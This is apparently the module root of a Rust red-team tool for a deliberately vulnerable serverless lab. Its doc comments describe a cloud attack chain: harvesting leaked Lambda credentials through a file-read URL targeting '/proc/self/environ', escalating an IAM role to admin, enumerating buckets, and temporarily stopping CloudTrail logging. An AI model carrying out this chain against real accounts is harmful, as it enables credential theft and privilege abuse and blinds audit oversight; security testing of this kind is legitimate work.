//! Serverless Attack Path Agent
//!
//! Drives a cloud privilege-escalation chain against a deliberately
//! vulnerable serverless deployment: harvest leaked Lambda credentials,
//! assume the exposed role, escalate it, enumerate storage, briefly blind
//! the audit trail, then revert the escalation.
//!
//! ## Flow
//!
//! 1. [`harvester`]: read the leaking endpoint, extract the credential triplet
//! 2. [`aws`]: build scoped STS/IAM/S3/CloudTrail clients
//! 3. [`escalation`]: attach the administrative policy to the role
//! 4. [`enumerator`]: inspect up to three buckets
//! 5. [`audit`]: stop, wait, and restart logging per trail
//! 6. [`orchestrator`]: sequencing, dwell periods and guaranteed revert
//!
//! ## Example Usage
//!
//! ```ignore
//! use attack_path_engine::agents::attack_path::{
//!     AttackPathOrchestrator, AwsClientFactory, HttpLeakSource,
//! };
//!
//! let orchestrator = AttackPathOrchestrator::new(
//!     Arc::new(HttpLeakSource::new()?),
//!     Arc::new(AwsClientFactory),
//!     "https://api.example.com/prod/?file=/proc/self/environ",
//! );
//! let report = orchestrator.run_attack_path("us-east-1", None).await?;
//! ```

pub mod audit;
pub mod aws;
pub mod enumerator;
pub mod escalation;
pub mod harvester;
pub mod orchestrator;
pub mod providers;
pub mod types;

#[cfg(test)]
pub(crate) mod testing;

pub use aws::AwsClientFactory;
pub use harvester::{HttpLeakSource, LeakSource};
pub use orchestrator::{AttackPathOrchestrator, WorkflowTiming};
pub use providers::{ClientFactory, ProviderError, ScopedClients};
pub use types::*;
